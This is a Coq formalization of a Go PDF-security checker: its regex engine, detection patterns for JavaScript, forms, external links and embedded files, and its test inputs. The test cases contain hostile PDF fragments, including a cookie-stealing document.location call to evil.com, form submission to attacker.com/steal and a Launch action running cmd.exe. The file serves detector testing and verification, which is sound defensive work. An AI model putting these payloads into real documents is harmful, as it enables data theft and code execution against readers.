(** * pdfchecker: the detection engine of [pdf.go]

    A shallow embedding of [Check] and of its four detectors, together with
    the part of Go's [regexp], [unicode/utf8] and [bytes] packages that the
    detectors rely on, and the properties of the engine that follow.  The
    sanitizer of the earlier file of the package is embedded as well. *)

From Stdlib Require Import Ascii String List NArith Bool Arith Lia.
Import ListNotations.
Open Scope list_scope.

(** ** Byte strings

    A Go [string] and a [[]byte] are both sequences of bytes. *)

Definition bytes := list ascii.

Definition code (b : ascii) : N := N_of_ascii b.

Definition str (s : string) : bytes := list_ascii_of_string s.

Definition byte_of (n : N) : ascii := ascii_of_N n.

Definition in_range (lo hi x : N) : bool := (lo <=? x)%N && (x <=? hi)%N.

(** ** [unicode/utf8]: DecodeRuneInString *)

Module utf8.

Definition RuneError : N := 65533.
Definition RuneSelf : N := 128.

(** The [first] table of the package: for a leading byte, the size of the
    sequence and the range accepted for the second byte; [None] for the
    bytes that cannot start a sequence of two or more bytes. *)
Definition first (s0 : N) : option (nat * N * N) :=
  if in_range 194 223 s0 then Some (2, 128%N, 191%N)
  else if (s0 =? 224)%N then Some (3, 160%N, 191%N)
  else if in_range 225 236 s0 then Some (3, 128%N, 191%N)
  else if (s0 =? 237)%N then Some (3, 128%N, 159%N)
  else if in_range 238 239 s0 then Some (3, 128%N, 191%N)
  else if (s0 =? 240)%N then Some (4, 144%N, 191%N)
  else if in_range 241 243 s0 then Some (4, 128%N, 191%N)
  else if (s0 =? 244)%N then Some (4, 128%N, 143%N)
  else None.

(** Continuation bytes, [locb..hicb]. *)
Definition is_cont (x : N) : bool := in_range 128 191 x.

Definition DecodeRune (s : bytes) : N * nat :=
  match s with
  | [] => (RuneError, 0)
  | b0 :: t =>
      let s0 := code b0 in
      if (s0 <? RuneSelf)%N then (s0, 1)
      else
        match first s0 with
        | None => (RuneError, 1)
        | Some (sz, lo, hi) =>
            if length s <? sz then (RuneError, 1)
            else
              match t with
              | [] => (RuneError, 1)
              | b1 :: t1 =>
                  let s1 := code b1 in
                  if negb (in_range lo hi s1) then (RuneError, 1)
                  else if sz <=? 2
                  then ((N.land s0 31 * 64 + N.land s1 63)%N, 2)
                  else
                    match t1 with
                    | [] => (RuneError, 1)
                    | b2 :: t2 =>
                        let s2 := code b2 in
                        if negb (is_cont s2) then (RuneError, 1)
                        else if sz <=? 3
                        then ((N.land s0 15 * 4096 + N.land s1 63 * 64
                               + N.land s2 63)%N, 3)
                        else
                          match t2 with
                          | [] => (RuneError, 1)
                          | b3 :: _ =>
                              let s3 := code b3 in
                              if negb (is_cont s3) then (RuneError, 1)
                              else ((N.land s0 7 * 262144 + N.land s1 63 * 4096
                                     + N.land s2 63 * 64 + N.land s3 63)%N, 4)
                          end
                    end
              end
        end
  end.

End utf8.

(** ** [bytes]: HasPrefix and Contains *)

Fixpoint HasPrefix (s prefix : bytes) : bool :=
  match prefix, s with
  | [], _ => true
  | _ :: _, [] => false
  | p :: prefix', b :: s' => if Ascii.eqb b p then HasPrefix s' prefix' else false
  end.

Fixpoint Contains (b subslice : bytes) : bool :=
  if HasPrefix b subslice then true
  else match b with
       | [] => false
       | _ :: b' => Contains b' subslice
       end.

(** ** [regexp]

    The engine follows the leftmost-first rule of Go's [regexp]: among the
    matches that start at the leftmost possible position, the one a
    backtracking matcher finds first.  The input is read rune by rune with
    [utf8.DecodeRune]; a byte that does not start a valid sequence is the
    rune [RuneError] of width one. *)

Module regexp.

(** A position in the subject: the byte before it (needed by [\b]) and the
    bytes from it on. *)
Record cursor := Cur { prev : option ascii; rest : bytes }.

Definition last_byte (w : bytes) (d : option ascii) : option ascii :=
  fold_left (fun _ x => Some x) w d.

Definition advance (c : cursor) (n : nat) : cursor :=
  {| prev := last_byte (firstn n (rest c)) (prev c);
     rest := skipn n (rest c) |}.

Definition start (s : bytes) : cursor := {| prev := None; rest := s |}.

(** [inputString.step]: the rune at the cursor and the cursor after it;
    [None] at the end of the text. *)
Definition step (c : cursor) : option (N * cursor) :=
  match utf8.DecodeRune (rest c) with
  | (_, O) => None
  | (r, w) => Some (r, advance c w)
  end.

(** [syntax.IsWordChar], on the byte before or at the cursor: a rune of
    two or more bytes is never a word character, and neither is the
    boundary of the text. *)
Definition IsWordChar (b : option ascii) : bool :=
  match b with
  | None => false
  | Some a =>
      let x := code a in
      in_range 48 57 x || in_range 65 90 x || in_range 97 122 x || (x =? 95)%N
  end.

Definition at_word_boundary (c : cursor) : bool :=
  xorb (IsWordChar (prev c)) (IsWordChar (hd_error (rest c))).

Inductive regex :=
| EmptyMatch
| CharClass (p : N -> bool)
| Concat (r1 r2 : regex)
| Alternate (r1 r2 : regex)
| Star (greedy : bool) (r : regex)
| WordBoundary.

Definition shorter (c c' : cursor) : bool :=
  length (rest c') <? length (rest c).

(** The iterations of a starred body from [c], in the order in which a
    backtracking matcher tries them: a greedy star enters the body first,
    a lazy one leaves first.  An iteration that consumes nothing is not
    repeated. *)
Fixpoint star_loop (body : cursor -> list cursor) (greedy : bool)
    (fuel : nat) (c : cursor) : list cursor :=
  match fuel with
  | O => [c]
  | S fuel' =>
      let more :=
        flat_map (star_loop body greedy fuel') (filter (shorter c) (body c)) in
      if greedy then more ++ [c] else c :: more
  end.

(** All the ways [r] matches at [c], as the cursors after the match, in
    priority order. *)
Fixpoint run (r : regex) (c : cursor) : list cursor :=
  match r with
  | EmptyMatch => [c]
  | CharClass p =>
      match step c with
      | Some (x, c') => if p x then [c'] else []
      | None => []
      end
  | Concat r1 r2 => flat_map (run r2) (run r1 c)
  | Alternate r1 r2 => run r1 c ++ run r2 c
  | Star greedy r1 => star_loop (run r1) greedy (length (rest c)) c
  | WordBoundary => if at_word_boundary c then [c] else []
  end.

(** The leftmost match at or after [c]: its first and last cursor. *)
Fixpoint search (r : regex) (fuel : nat) (c : cursor)
  : option (cursor * cursor) :=
  match run r c with
  | e :: _ => Some (c, e)
  | [] =>
      match fuel with
      | O => None
      | S fuel' =>
          match step c with
          | Some (_, c') => search r fuel' c'
          | None => None
          end
      end
  end.

Definition find (r : regex) (c : cursor) : option (cursor * cursor) :=
  search r (length (rest c)) c.

Definition MatchString (r : regex) (s : bytes) : bool :=
  match find r (start s) with
  | Some _ => true
  | None => false
  end.

(** The bytes between two cursors of the same text. *)
Definition between (c c' : cursor) : bytes :=
  firstn (length (rest c) - length (rest c')) (rest c).

(** [ReplaceAllString], for a replacement without [$] references.  The
    regular expressions of this package never match the empty string; on
    an empty match the loop copies the next rune and goes on. *)
Fixpoint replace_loop (r : regex) (repl : bytes) (fuel : nat) (c : cursor)
  : bytes :=
  match fuel with
  | O => rest c
  | S fuel' =>
      match find r c with
      | None => rest c
      | Some (cs, ce) =>
          if shorter cs ce
          then between c cs ++ repl ++ replace_loop r repl fuel' ce
          else
            match step ce with
            | Some (_, c') =>
                between c cs ++ repl ++ between ce c'
                  ++ replace_loop r repl fuel' c'
            | None => between c cs ++ repl
            end
      end
  end.

Definition ReplaceAllString (r : regex) (src repl : bytes) : bytes :=
  replace_loop r repl (S (length src)) (start src).

(** [FindAllStringIndex s (-1)]: the byte offsets of the successive
    matches. *)
Fixpoint find_loop (r : regex) (n : nat) (fuel : nat) (c : cursor)
  : list (nat * nat) :=
  match fuel with
  | O => []
  | S fuel' =>
      match find r c with
      | None => []
      | Some (cs, ce) =>
          let loc := (n - length (rest cs), n - length (rest ce)) in
          if shorter cs ce
          then loc :: find_loop r n fuel' ce
          else
            match step ce with
            | Some (_, c') => loc :: find_loop r n fuel' c'
            | None => [loc]
            end
      end
  end.

Definition FindAllStringIndex (r : regex) (s : bytes) : list (nat * nat) :=
  find_loop r (length s) (S (length s)) (start s).

(** *** Building blocks of the pattern syntax *)

Definition ASCII_lower (x : N) : N :=
  if in_range 65 90 x then (x + 32)%N else x.

(** [unicode.SimpleFold] orbits of the ASCII characters: a letter folds
    with its other case; [k] also with the Kelvin sign U+212A and [s]
    with the long s U+017F. *)
Definition fold_orbit (x : N) : list N :=
  let l := ASCII_lower x in
  if in_range 97 122 l
  then [l; (l - 32)%N]
       ++ (if (l =? 107)%N then [8490%N] else [])
       ++ (if (l =? 115)%N then [383%N] else [])
  else [x].

Definition mem_rune (l : list N) (x : N) : bool := existsb (N.eqb x) l.

(** One literal character. *)
Definition chr (a : ascii) : regex := CharClass (N.eqb (code a)).

(** One literal character under [(?i)]. *)
Definition chr_i (a : ascii) : regex := CharClass (mem_rune (fold_orbit (code a))).

Definition seq_of (l : list regex) : regex := fold_right Concat EmptyMatch l.

(** A literal string, and a literal string under [(?i)]. *)
Definition lit (s : string) : regex := seq_of (map chr (str s)).
Definition lit_i (s : string) : regex := seq_of (map chr_i (str s)).

(** [\s] is [[\t\n\f\r ]]. *)
Definition is_space (x : N) : bool :=
  (x =? 9)%N || (x =? 10)%N || (x =? 12)%N || (x =? 13)%N || (x =? 32)%N.

(** [[0-9A-Fa-f]]. *)
Definition is_hex (x : N) : bool :=
  in_range 48 57 x || in_range 65 70 x || in_range 97 102 x.

Definition space : regex := CharClass is_space.
Definition hex : regex := CharClass is_hex.
(** [.] under [(?s)]. *)
Definition any : regex := CharClass (fun _ => true).

Definition star (r : regex) : regex := Star true r.
Definition lazy_star (r : regex) : regex := Star false r.
Definition plus (r : regex) : regex := Concat r (Star true r).
Definition opt (r : regex) : regex := Alternate r EmptyMatch.

Fixpoint times (n : nat) (r : regex) : regex :=
  match n with
  | O => EmptyMatch
  | S n' => Concat r (times n' r)
  end.

(** [r{n,}]. *)
Definition at_least (n : nat) (r : regex) : regex := Concat (times n r) (Star true r).

End regexp.

Import regexp.

Declare Scope regex_scope.
Delimit Scope regex_scope with re.
Bind Scope regex_scope with regex.
Infix ";;" := Concat (at level 61, right associativity) : regex_scope.

(** ** The package [pdfchecker] *)

Inductive error :=
| ErrMaliciousPDF
| ErrInvalidPDFStructure
| ErrJavaScriptDetected
| ErrFormDetected
| ErrExternalRefDetected
| ErrEmbeddedFileDetected.

(** *** The precompiled regular expressions *)

(** [\s+] *)
Definition whitespaceRegex : regex := plus space.

Definition jsPatterns : list regex :=
  [ (* (?i)/\s*JavaScript *)
    (lit_i "/" ;; star space ;; lit_i "JavaScript")%re;
    (* (?i)/\s*JS *)
    (lit_i "/" ;; star space ;; lit_i "JS")%re;
    (* (?i)/\s*OpenAction *)
    (lit_i "/" ;; star space ;; lit_i "OpenAction")%re;
    (* (?i)app\s*\. *)
    (lit_i "app" ;; star space ;; lit_i ".")%re;
    (* (?i)eval\s*\( *)
    (lit_i "eval" ;; star space ;; lit_i "(")%re;
    (* (?i)document\s*\. *)
    (lit_i "document" ;; star space ;; lit_i ".")%re;
    (* (?i)this\s*\. *)
    (lit_i "this" ;; star space ;; lit_i ".")%re;
    (* (?i)getField\s*\( *)
    (lit_i "getField" ;; star space ;; lit_i "(")%re;
    (* (?i)submitForm\s*\( *)
    (lit_i "submitForm" ;; star space ;; lit_i "(")%re;
    (* (?i)importDataObject\s*\( *)
    (lit_i "importDataObject" ;; star space ;; lit_i "(")%re;
    (* (?i)JS\(\s*#(?:[0-9A-Fa-f]{2,})+ *)
    (lit_i "JS(" ;; star space ;; lit_i "#" ;; plus (at_least 2 hex))%re ].

(** [#(?:[0-9A-Fa-f]{2}){4,}] *)
Definition jsHexRx : regex := (lit "#" ;; at_least 4 (times 2 hex))%re.

(** [<([0-9A-Fa-f]{4,})>] *)
Definition jsHexAngle : regex := (lit "<" ;; at_least 4 hex ;; lit ">")%re.

(** [(?i)javascript|js] *)
Definition jsWordRegex : regex := Alternate (lit_i "javascript") (lit_i "js").

Definition formPatternsRegex : list regex :=
  [ (* (?i)/\s*AcroForm *)
    (lit_i "/" ;; star space ;; lit_i "AcroForm")%re;
    (* (?i)/\s*XFA *)
    (lit_i "/" ;; star space ;; lit_i "XFA")%re;
    (* (?i)/\s*Widget *)
    (lit_i "/" ;; star space ;; lit_i "Widget")%re;
    (* (?i)/\s*FT\s*/\s*Tx *)
    (lit_i "/" ;; star space ;; lit_i "FT" ;; star space ;; lit_i "/"
       ;; star space ;; lit_i "Tx")%re;
    (* (?i)/\s*FT\s*/\s*Ch *)
    (lit_i "/" ;; star space ;; lit_i "FT" ;; star space ;; lit_i "/"
       ;; star space ;; lit_i "Ch")%re;
    (* (?i)/\s*FT\s*/\s*Btn *)
    (lit_i "/" ;; star space ;; lit_i "FT" ;; star space ;; lit_i "/"
       ;; star space ;; lit_i "Btn")%re;
    (* (?i)/\s*FT\s*/\s*Sig *)
    (lit_i "/" ;; star space ;; lit_i "FT" ;; star space ;; lit_i "/"
       ;; star space ;; lit_i "Sig")%re ].

Definition externalRegexes : list regex :=
  [ (* (?i)/\s*GoToR *)
    (lit_i "/" ;; star space ;; lit_i "GoToR")%re;
    (* (?i)/\s*Launch *)
    (lit_i "/" ;; star space ;; lit_i "Launch")%re;
    (* (?i)/\s*ImportData *)
    (lit_i "/" ;; star space ;; lit_i "ImportData")%re;
    (* (?i)/\s*SubmitForm *)
    (lit_i "/" ;; star space ;; lit_i "SubmitForm")%re;
    (* (?i)/\s*URI\b *)
    (lit_i "/" ;; star space ;; lit_i "URI" ;; WordBoundary)%re;
    (* (?i)URI\s*\( *)
    (lit_i "URI" ;; star space ;; lit_i "(")%re;
    (* (?i)\bhttps?:// *)
    (WordBoundary ;; lit_i "http" ;; opt (chr_i "s") ;; lit_i "://")%re;
    (* (?i)\bfile:// *)
    (WordBoundary ;; lit_i "file://")%re;
    (* (?i)\bftp:// *)
    (WordBoundary ;; lit_i "ftp://")%re ].

Definition embeddedFilesRegex : list regex :=
  [ (* (?i)/\s*EmbeddedFile *)
    (lit_i "/" ;; star space ;; lit_i "EmbeddedFile")%re;
    (* (?i)/\s*FileAttachment *)
    (lit_i "/" ;; star space ;; lit_i "FileAttachment")%re;
    (* (?i)/\s*Filespec *)
    (lit_i "/" ;; star space ;; lit_i "Filespec")%re ].

(** [(?is)stream\b.*?endstream], compiled inside [checkForJavaScript]. *)
Definition streamRx : regex :=
  (lit_i "stream" ;; WordBoundary ;; lazy_star any ;; lit_i "endstream")%re.

(** *** The detectors *)

(** [for _, rx := range rxs { if rx.MatchString(s) { return err } }] *)
Fixpoint any_match (rxs : list regex) (s : bytes) : bool :=
  match rxs with
  | [] => false
  | rx :: rxs' => if MatchString rx s then true else any_match rxs' s
  end.

(** [s[from:to]]. *)
Definition slice (s : bytes) (from to : nat) : bytes :=
  firstn (to - from) (skipn from s).

(** The loop over [locs] of [checkForJavaScript]; the subtraction of [nat]
    stops at zero as the clamp [if from < 0 { from = 0 }] does. *)
Fixpoint hex_context_loop (contentNoStreams : bytes) (locs : list (nat * nat))
  : bool :=
  match locs with
  | [] => false
  | loc :: locs' =>
      let start := fst loc in
      let from := start - 80 in
      let ctx := slice contentNoStreams from start in
      if MatchString jsWordRegex ctx then true
      else hex_context_loop contentNoStreams locs'
  end.

Definition stripStreams (content : bytes) : bytes :=
  ReplaceAllString streamRx content (str " ").

Definition collapseWhitespace (content : bytes) : bytes :=
  ReplaceAllString whitespaceRegex content (str " ").

Definition checkForJavaScript (content : bytes) : option error :=
  let contentNoStreams := stripStreams content in
  let normalized := collapseWhitespace contentNoStreams in
  if any_match jsPatterns normalized then Some ErrJavaScriptDetected
  else
    let locs := FindAllStringIndex jsHexRx contentNoStreams in
    if hex_context_loop contentNoStreams locs then Some ErrJavaScriptDetected
    else if MatchString jsHexAngle contentNoStreams
            && MatchString jsWordRegex contentNoStreams
    then Some ErrJavaScriptDetected
    else None.

Definition checkForForms (content : bytes) : option error :=
  if any_match formPatternsRegex content then Some ErrFormDetected else None.

Definition checkForExternalReferences (content : bytes) : option error :=
  let normalized := collapseWhitespace content in
  if any_match externalRegexes normalized then Some ErrExternalRefDetected
  else None.

Definition checkForEmbeddedFiles (content : bytes) : option error :=
  if any_match embeddedFilesRegex content then Some ErrEmbeddedFileDetected
  else None.

(** The header test of [Check]: the marker within the first
    [min 1024 (len data)] bytes. *)
Definition header_limit (data : bytes) : nat :=
  if length data <? 1024 then length data else 1024.

Definition Check (data : bytes) : option error :=
  if length data =? 0 then Some ErrInvalidPDFStructure
  else
    let limit := header_limit data in
    if negb (Contains (firstn limit data) (str "%PDF-"))
    then Some ErrInvalidPDFStructure
    else
      let content := data in
      match checkForJavaScript content with
      | Some err => Some err
      | None =>
          match checkForForms content with
          | Some err => Some err
          | None =>
              match checkForExternalReferences content with
              | Some err => Some err
              | None =>
                  match checkForEmbeddedFiles content with
                  | Some err => Some err
                  | None => None
                  end
              end
          end
      end.

(** ** The inputs of [pdf_test.go] *)

Module Tests.

(** The test inputs are written as in the Go source: [\n] is a newline;
    [\q] stands for a double quote. *)
Fixpoint unescape (s : bytes) : bytes :=
  match s with
  | "\"%char :: "n"%char :: s' => "010"%char :: unescape s'
  | "\"%char :: "q"%char :: s' => "034"%char :: unescape s'
  | c :: s' => c :: unescape s'
  | [] => []
  end.

Definition go (s : string) : bytes := unescape (str s).

(** The cases of [TestPDFValidator_Check], each with the error it names
    (for the two embedded-file cases, which name none, the error the code
    returns). *)
Definition check_cases : list (string * option error) :=
  [
    (* Valid PDF without dangerous content *)
    ("%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>\nendobj\nxref\n0 4\n0000000000 65535 f \n0000000009 00000 n \n0000000058 00000 n \n0000000115 00000 n \ntrailer\n<</Size 4/Root 1 0 R>>\nstartxref\n174\n%%EOF"%string,
     None);
    (* PDF with JavaScript - /JavaScript *)
    ("%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/JavaScript 3 0 R>>\nendobj\n"%string,
     Some ErrJavaScriptDetected);
    (* PDF with JavaScript - /JS *)
    ("%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/JS (app.alert('XSS'))>>\nendobj\n"%string,
     Some ErrJavaScriptDetected);
    (* PDF with JavaScript - /JavaScript Open System Calculator *)
    ("%PDF-1.71 0 obj<</Pages 1 0 R /OpenAction 2 0 R>>2 0 obj<</S /JavaScript /JS (this.getURL(\qfile:///System/Applications/Calculator.app\q))>> trailer <</Root 1 0 R>>"%string,
     Some ErrJavaScriptDetected);
    (* PDF with OpenAction *)
    ("%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>\nendobj\n"%string,
     Some ErrJavaScriptDetected);
    (* PDF with app.alert JavaScript *)
    ("%PDF-1.4\n1 0 obj\n<</S/JavaScript/JS(app.alert('Malicious XSS'))>>\nendobj\n"%string,
     Some ErrJavaScriptDetected);
    (* PDF with eval JavaScript *)
    ("%PDF-1.4\n1 0 obj\n<</S/JavaScript/JS(eval('malicious code'))>>\nendobj\n"%string,
     Some ErrJavaScriptDetected);
    (* PDF with document. JavaScript *)
    ("%PDF-1.4\n1 0 obj\n<</S/JavaScript/JS(document.write('XSS'))>>\nendobj\n"%string,
     Some ErrJavaScriptDetected);
    (* PDF with this. JavaScript *)
    ("%PDF-1.4\n1 0 obj\n<</S/JavaScript/JS(this.print())>>\nendobj\n"%string,
     Some ErrJavaScriptDetected);
    (* PDF with getField *)
    ("%PDF-1.4\n1 0 obj\n<</S/JavaScript/JS(this.getField('field').value='evil')>>\nendobj\n"%string,
     Some ErrJavaScriptDetected);
    (* PDF with submitForm *)
    ("%PDF-1.4\n1 0 obj\n<</S/JavaScript/JS(this.submitForm('http://evil.com'))>>\nendobj\n"%string,
     Some ErrJavaScriptDetected);
    (* PDF with importDataObject *)
    ("%PDF-1.4\n1 0 obj\n<</S/JavaScript/JS(this.importDataObject('evil'))>>\nendobj\n"%string,
     Some ErrJavaScriptDetected);
    (* PDF with AcroForm *)
    ("%PDF-1.4\n1 0 obj\n<</Type/Catalog/AcroForm<</Fields[]>>>>\nendobj\n"%string,
     Some ErrFormDetected);
    (* PDF with XFA forms *)
    ("%PDF-1.4\n1 0 obj\n<</Type/Catalog/AcroForm<</XFA[]>>>>\nendobj\n"%string,
     Some ErrFormDetected);
    (* PDF with Widget annotation *)
    ("%PDF-1.4\n1 0 obj\n<</Type/Annot/Subtype/Widget>>\nendobj\n"%string,
     Some ErrFormDetected);
    (* PDF with text field *)
    ("%PDF-1.4\n1 0 obj\n<</Type/Annot/Subtype/Widget/FT/Tx>>\nendobj\n"%string,
     Some ErrFormDetected);
    (* PDF with choice field *)
    ("%PDF-1.4\n1 0 obj\n<</Type/Annot/Subtype/Widget/FT/Ch>>\nendobj\n"%string,
     Some ErrFormDetected);
    (* PDF with button field *)
    ("%PDF-1.4\n1 0 obj\n<</Type/Annot/Subtype/Widget/FT/Btn>>\nendobj\n"%string,
     Some ErrFormDetected);
    (* PDF with signature field *)
    ("%PDF-1.4\n1 0 obj\n<</Type/Annot/Subtype/Widget/FT/Sig>>\nendobj\n"%string,
     Some ErrFormDetected);
    (* PDF with URI action *)
    ("%PDF-1.4\n1 0 obj\n<</Type/Action/S/URI/URI(http://malicious.com)>>\nendobj\n"%string,
     Some ErrExternalRefDetected);
    (* PDF with GoToR action *)
    ("%PDF-1.4\n1 0 obj\n<</Type/Action/S/GoToR/F(external.pdf)>>\nendobj\n"%string,
     Some ErrExternalRefDetected);
    (* PDF with Launch action *)
    ("%PDF-1.4\n1 0 obj\n<</Type/Action/S/Launch/F(malware.exe)>>\nendobj\n"%string,
     Some ErrExternalRefDetected);
    (* PDF with ImportData action *)
    ("%PDF-1.4\n1 0 obj\n<</Type/Action/S/ImportData/F(data.fdf)>>\nendobj\n"%string,
     Some ErrExternalRefDetected);
    (* PDF with SubmitForm action *)
    ("%PDF-1.4\n1 0 obj\n<</Type/Action/S/SubmitForm/F(http://evil.com/collect)>>\nendobj\n"%string,
     Some ErrExternalRefDetected);
    (* PDF with HTTP URL *)
    ("%PDF-1.4\n1 0 obj\n<</Type/Action/S/URI/URI(http://malicious.com/xss.js)>>\nendobj\n"%string,
     Some ErrExternalRefDetected);
    (* PDF with HTTPS URL *)
    ("%PDF-1.4\n1 0 obj\n<</Type/Action/S/URI/URI(https://evil.com/payload)>>\nendobj\n"%string,
     Some ErrExternalRefDetected);
    (* PDF with FTP URL *)
    ("%PDF-1.4\n1 0 obj\n<</Type/Action/S/URI/URI(ftp://malicious.com/data)>>\nendobj\n"%string,
     Some ErrExternalRefDetected);
    (* PDF with file:// URL *)
    ("%PDF-1.4\n1 0 obj\n<</Type/Action/S/URI/URI(file:///etc/passwd)>>\nendobj\n"%string,
     Some ErrExternalRefDetected);
    (* PDF with embedded file *)
    ("%PDF-1.4\n1 0 obj\n<</Type/Filespec/F(embedded.exe)/EF<</F 2 0 R>>>>\nendobj\n2 0 obj\n<</Type/EmbeddedFile/Length 100>>\nstream\nmalicious binary data\nendstream\nendobj\n"%string,
     Some ErrEmbeddedFileDetected);
    (* PDF with file attachment *)
    ("%PDF-1.4\n1 0 obj\n<</Type/Annot/Subtype/FileAttachment/FS 2 0 R>>\nendobj\n"%string,
     Some ErrEmbeddedFileDetected);
    (* Empty PDF content *)
    (EmptyString,
     Some ErrInvalidPDFStructure);
    (* Invalid PDF header *)
    ("Not a PDF file"%string,
     Some ErrInvalidPDFStructure);
    (* Case-insensitive JavaScript detection *)
    ("%PDF-1.4\n1 0 obj\n<</s/javascript/js(app.Alert('XSS'))>>\nendobj\n"%string,
     Some ErrJavaScriptDetected)
  ].

(** The cases of [TestPDFValidator_OWASP_ComplianceScenarios], which must
    all be blocked, with the error the code returns. *)
Definition owasp_cases : list (string * option error) :=
  [
    (* A03 Injection - JavaScript Injection via PDF *)
    ("%PDF-1.4\n<</S/JavaScript/JS(app.alert('Injected XSS via PDF'))>>"%string,
     Some ErrJavaScriptDetected);
    (* A03 Injection - Form-based data exfiltration *)
    ("%PDF-1.4\n<</Type/Action/S/SubmitForm/F(http://attacker.com/steal)/Fields[]>>"%string,
     Some ErrExternalRefDetected);
    (* A05 Security Misconfiguration - Unsafe PDF features *)
    ("%PDF-1.4\n<</Type/Action/S/Launch/F(cmd.exe)/P(/c calc.exe)>>"%string,
     Some ErrExternalRefDetected);
    (* A06 Vulnerable Components - PDF with embedded malware *)
    ("%PDF-1.4\n<</Type/EmbeddedFile/F(malware.exe)/Filter/ASCIIHexDecode>>"%string,
     Some ErrEmbeddedFileDetected);
    (* A10 Server-Side Request Forgery - External resource access *)
    ("%PDF-1.4\n<</Type/Action/S/URI/URI(http://internal-server:8080/admin)>>"%string,
     Some ErrExternalRefDetected);
    (* Cross-Site Scripting via PDF - document object access *)
    ("%PDF-1.4\n<</S/JavaScript/JS(document.location='http://evil.com?'+document.cookie)>>"%string,
     Some ErrJavaScriptDetected);
    (* Phishing via PDF - External form submission *)
    ("%PDF-1.4\n<</Type/Action/S/SubmitForm/F(https://fake-bank.com/login)/Method/POST>>"%string,
     Some ErrExternalRefDetected);
    (* Data Exfiltration - File access attempt *)
    ("%PDF-1.4\n<</S/JavaScript/JS(this.importDataObject('sensitive-data'))>>"%string,
     Some ErrJavaScriptDetected)
  ].

(** The cases of [TestPDFValidator_EdgeCases]: three blocked, one allowed. *)
Definition edge_cases : list (string * option error) :=
  [
    (* Obfuscated JavaScript with hex encoding *)
    ("%PDF-1.4\n<</S/JavaScript/JS(#6170702E616C657274282758535327293B)>>\n"%string,
     Some ErrJavaScriptDetected);
    (* Multiple malicious features combined *)
    ("%PDF-1.4\n<</S/JavaScript/JS(app.alert('XSS'))/OpenAction 2 0 R>>\n2 0 obj\n<</S/URI/URI(http://evil.com)>>"%string,
     Some ErrJavaScriptDetected);
    (* Whitespace variations in dangerous patterns *)
    ("%PDF-1.4\n<< / S / JavaScript / JS ( app . alert ( 'XSS' ) ) >>"%string,
     Some ErrJavaScriptDetected);
    (* Legitimate PDF with safe annotations *)
    ("%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n3 0 obj\n<</Type/Page/Parent 2 0 R/Annots[4 0 R]>>\nendobj\n4 0 obj\n<</Type/Annot/Subtype/Text/Contents(Safe note)>>\nendobj"%string,
     None)
  ].

Definition run_cases (cases : list (string * option error))
  : list (option error) :=
  map (fun c => Check (go (fst c))) cases.

End Tests.

Import Tests.

(** ** The sanitizer of the earlier file of the package

    [SanitizePDF] of the package [security], the earlier form of this
    package: three replacements by the empty string, one after the other. *)

Module security.

(** [[^>]]: any rune but [>], the line feed included. *)
Definition not_gt : regex := CharClass (fun x => negb (x =? 62)%N).

(** [.] without the flag [s]: any rune but the line feed. *)
Definition dot : regex := CharClass (fun x => negb (x =? 10)%N).

(** [KEYWORD[^>]*?>.*?</] *)
Definition removal (kw : string) : regex :=
  (lit kw ;; lazy_star not_gt ;; lit ">" ;; lazy_star dot ;; lit "</")%re.

Definition jsRemovalPatterns : list regex :=
  [ removal "/JavaScript"; removal "/JS"; removal "/OpenAction" ].

(** The loop over [jsRemovalPatterns], each pattern applied to the result
    of the one before; the error returned is always nil. *)
Definition SanitizePDF (data : bytes) : bytes * option error :=
  (fold_left (fun content re => ReplaceAllString re content [])
     jsRemovalPatterns data,
   None).

End security.

(** * Vocabulary of the properties

    The statements below speak of the text itself, not of the regular
    expressions: which bytes spell a keyword, where a region starts, what
    collapsing does to a run of whitespace.  The lemmas of the next part
    tie these readings to the engine. *)

Definition is_cont_byte (b : ascii) : bool := utf8.is_cont (code b).
Definition is_space_byte (b : ascii) : bool := is_space (code b).
Definition is_hex_byte (b : ascii) : bool := is_hex (code b).

Definition is_ascii (s : bytes) : Prop := Forall (fun a => (code a < 128)%N) s.

(** A text position that does not hold a continuation byte: the engine,
    reading rune by rune, always stops there. *)
Definition rune_start (s : bytes) : Prop :=
  match s with
  | [] => True
  | b :: _ => is_cont_byte b = false
  end.

(** A byte string that does not start with a byte of the class. *)
Definition not_starting (f : ascii -> bool) (s : bytes) : Prop :=
  match s with
  | [] => True
  | b :: _ => f b = false
  end.

(** The last [n] bytes of a byte string. *)
Definition lastn (n : nat) (a : bytes) : bytes := skipn (length a - n) a.

(** ** Spellings under [(?i)]

    A letter of the pattern is spelled by itself in either case; [s] is
    also spelled by the two bytes of the long s and [k] by the three bytes
    of the Kelvin sign.  Any other character is spelled by itself. *)

Definition long_s : bytes := [byte_of 197; byte_of 191].
Definition kelvin : bytes := [byte_of 226; byte_of 132; byte_of 170].

(** The bytes at the head of [s] that spell one rune of the class [p], and
    the bytes after them. *)
Definition eat_class (p : N -> bool) (s : bytes) : option (bytes * bytes) :=
  match s with
  | [] => None
  | b :: t =>
      if (code b <? 128)%N
      then if p (code b) then Some ([b], t) else None
      else if p 383%N && HasPrefix s long_s then Some (long_s, skipn 2 s)
      else if p 8490%N && HasPrefix s kelvin then Some (kelvin, skipn 3 s)
      else None
  end.

Fixpoint eat_seq (ps : list (N -> bool)) (s : bytes) : option (bytes * bytes) :=
  match ps with
  | [] => Some ([], s)
  | p :: ps' =>
      match eat_class p s with
      | None => None
      | Some (w, t) =>
          match eat_seq ps' t with
          | None => None
          | Some (w', t') => Some (w ++ w', t')
          end
      end
  end.

Definition fold_class (a : ascii) : N -> bool := mem_rune (fold_orbit (code a)).

(** The spelling of [pat] at the head of [s], and the bytes after it. *)
Definition prefix_i (pat : string) (s : bytes) : option (bytes * bytes) :=
  eat_seq (map fold_class (str pat)) s.

(** [w] is a spelling of [pat] under [(?i)]. *)
Definition spells_i (pat : string) (w : bytes) : Prop :=
  prefix_i pat w = Some (w, []).

(** The offset of the first spelling of [pat] in [s]. *)
Fixpoint index_i (pat : string) (s : bytes) : option nat :=
  match prefix_i pat s with
  | Some _ => Some 0
  | None =>
      match s with
      | [] => None
